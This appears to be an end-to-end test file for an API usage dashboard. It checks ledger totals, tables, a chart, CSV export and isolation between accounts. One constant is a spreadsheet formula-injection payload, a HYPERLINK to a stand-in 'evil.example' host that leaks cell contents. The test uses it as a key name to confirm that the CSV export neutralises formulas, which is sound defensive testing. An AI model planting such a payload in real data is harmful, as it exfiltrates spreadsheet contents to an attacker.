/** Usage: what two models, two keys and the page itself cost, drawn, summed and downloaded, to the credit as the ledger has it. */

import { readFileSync } from "node:fs";

import type { Page } from "playwright-core";
import { beforeAll, expect, test } from "vitest";

import { browser, visit, useBrowser } from "./browser";
import { Depositor } from "./depositor";
import { facts } from "./facts";
import { answered, limitAnswers, send } from "./flows";
import { visiting } from "./visits";

/** What a spreadsheet would run. */
const HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"open")';
const ANSWER_TOKENS = 16;

interface Row {
  day: string;
  model: string;
  key_id: string | null;
  key_name: string | null;
  requests: number;
  prompt_tokens: number;
  completion_tokens: number;
  cost: number;
}

let depositor: Depositor;
let ledger: Row[];

/** A paid answer to a program with a key. */
async function ask(key: string, model: string): Promise<void> {
  const response = await fetch(`${facts.apiUrl}/v1/chat/completions`, {
    method: "POST",
    headers: { authorization: `Bearer ${key}`, "content-type": "application/json" },
    body: JSON.stringify({ model, messages: [{ role: "user", content: "Name a bird." }], max_tokens: ANSWER_TOKENS }),
  });
  if (!response.ok) throw new Error(`${response.status} ${await response.text()}`);
  await response.text();
}

useBrowser();
beforeAll(async () => {
  depositor = await Depositor.create();
  const keys: string[] = [];
  for (const name of [HOSTILE, "laptop", "laptop"]) keys.push((await depositor.ask<{ key: string }>("POST", "/v1/keys", { name })).key);
  const [hostile = "", laptop = "", namesake = ""] = keys;
  await ask(hostile, facts.model);
  await ask(laptop, facts.twin.id);
  await ask(namesake, facts.twin.id);
  await visiting(browser, depositor, async ({ page }) => {
    await limitAnswers(page, ANSWER_TOKENS);
    await send(page, "Name a tree.");
    await answered(page, facts.model);
  });
  const day = new Date().toISOString().slice(0, 10);
  ledger = (await depositor.ask<{ data: Row[] }>("GET", `/v1/usage?from=${day}&to=${day}`)).data;
});

const sum = (rows: readonly Row[], field: "requests" | "prompt_tokens" | "completion_tokens" | "cost") => rows.reduce((total, row) => total + row[field], 0);
const cells = (name: string, rows: readonly Row[]) => [name, ...(["requests", "prompt_tokens", "completion_tokens"] as const).map((field) => sum(rows, field).toLocaleString("en-US")), String(sum(rows, "cost") / 1e9)];

/** The table's rows, cell by cell, in the order of their first cell. */
async function table(page: Page, by: string): Promise<string[][]> {
  await page.getByRole("button", { name: `By ${by}`, exact: true }).click();
  const rows = await page.getByRole("table", { name: `Usage by ${by}` }).locator("tbody tr").all();
  return (await Promise.all(rows.map((row) => row.getByRole("cell").allInnerTexts()))).sort();
}

test("the ledger has each answer once, and what was paid", async () => {
  expect(sum(ledger, "requests")).toBe(4);
  expect(sum(ledger, "cost")).toBe((await depositor.receipts()).reduce((total, { cost_credits }) => total + cost_credits, 0));
  for (const { model, prompt_tokens, completion_tokens, cost } of ledger) {
    expect(cost).toBe(((prompt_tokens + completion_tokens) * (model === facts.twin.id ? facts.twin.rate : facts.modelRate)) / 1e6);
  }
});

test("totals and tables are the ledger's, by day, by model and by key, and keys of one name stay two", () =>
  visiting(
    browser,
    depositor,
    async ({ page }) => {
      await page.getByRole("table", { name: "Usage by day" }).waitFor();
      const totals = await page.locator("dl.totals dd").allInnerTexts();
      const [, requests, prompt, completion, cost] = cells("", ledger);
      expect(totals).toEqual([`${cost} PRLX`, prompt, completion, requests]);
      expect(await table(page, "day")).toEqual([cells(ledger[0]?.day ?? "", ledger)]);
      const models = [facts.model, facts.twin.id].map((model) => cells(model, ledger.filter((row) => row.model === model)));
      expect(await table(page, "model")).toEqual(models.sort());
      const keys = ledger.map((row) => cells(row.key_id === null ? "This page" : (row.key_name ?? ""), [row]));
      expect(keys.map(([name]) => name).sort()).toEqual([HOSTILE, "This page", "laptop", "laptop"].sort());
      expect(await table(page, "key")).toEqual(keys.sort());
    },
    { place: "#/usage" },
  ));

test("the chart has a bar of today's height, in PRLX and in tokens", () =>
  visiting(
    browser,
    depositor,
    async ({ page }) => {
      for (const [measure, name] of [["PRLX", "PRLX by day"], ["Tokens", "Tokens by day"]] as const) {
        await page.getByRole("button", { name: measure, exact: true }).click();
        const chart = page.getByRole("img", { name });
        const canvas = chart.locator("canvas");
        await canvas.waitFor();
        // The last day is at the right; all days before it are empty.
        const drawn = await canvas.evaluate((element) => {
          const { width, height } = element as HTMLCanvasElement;
          const context = (element as HTMLCanvasElement).getContext("2d");
          const accent = getComputedStyle(document.documentElement).getPropertyValue("--accent").trim();
          const probe = document.createElement("canvas").getContext("2d");
          if (!context || !probe) return [0, 0];
          probe.fillStyle = accent;
          probe.fillRect(0, 0, 1, 1);
          const [red, green, blue] = probe.getImageData(0, 0, 1, 1).data;
          const { data } = context.getImageData(0, 0, width, height);
          const halves = [0, 0];
          for (let at = 0; at < data.length; at += 4) {
            const near = Math.abs((data[at] ?? 0) - (red ?? 0)) + Math.abs((data[at + 1] ?? 0) - (green ?? 0)) + Math.abs((data[at + 2] ?? 0) - (blue ?? 0)) < 24;
            if (near && (data[at + 3] ?? 0) > 200) halves[(at / 4) % width < (width * 3) / 4 ? 0 : 1]! += 1;
          }
          return halves;
        });
        expect(drawn[0]).toBe(0);
        expect(drawn[1]).toBeGreaterThan(50);
      }
    },
    { place: "#/usage" },
  ));

test("the CSV has every row to the credit, and a key's name that is a formula is text in it", () =>
  visiting(
    browser,
    depositor,
    async ({ page }) => {
      const download = page.waitForEvent("download");
      await page.getByRole("button", { name: "Download CSV" }).click();
      const file = await download;
      expect(file.suggestedFilename()).toMatch(/^parallelix-usage-\d{4}-\d\d-\d\d-\d{4}-\d\d-\d\d\.csv$/);
      const [head, ...lines] = readFileSync(await file.path(), "utf8").split("\r\n");
      expect(head).toBe("day,model,key,requests,prompt_tokens,completion_tokens,cost_credits,cost_prlx");
      expect(lines.pop()).toBe("");
      const quoted = `"'${HOSTILE.replaceAll('"', '""')}"`;
      const wanted = ledger.map((row) => {
        const key = row.key_name === HOSTILE ? quoted : (row.key_name ?? "");
        return [row.day, row.model, key, row.requests, row.prompt_tokens, row.completion_tokens, row.cost, row.cost / 1e9].join(",");
      });
      expect(lines.sort()).toEqual(wanted.sort());
      // No cell begins like a formula, in quotes or without.
      expect(lines.filter((line) => /(^|,)"?[=+\-@]/.test(line))).toEqual([]);
    },
    { place: "#/usage" },
  ));

test("somebody else sees nothing of it", async () => {
  const stranger = await Depositor.create({ deposit: 1n, exposure: 1n });
  await visiting(browser, stranger, async ({ page }) => {
    await visit(page, "#/usage");
    await page.getByText("Nothing was used in these days").waitFor();
  });
});
